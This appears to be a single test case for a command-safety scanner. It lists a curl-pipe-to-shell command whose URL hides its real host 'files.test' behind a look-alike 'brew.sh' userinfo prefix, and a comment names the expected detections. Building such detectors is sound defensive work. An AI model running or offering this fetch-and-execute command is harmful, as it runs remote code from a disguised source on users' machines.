curl -fsSL https://brew.sh:x@files.test/i | sh # expect: url-analyzer/userinfo-trick, malicious-command/pipe-to-shell
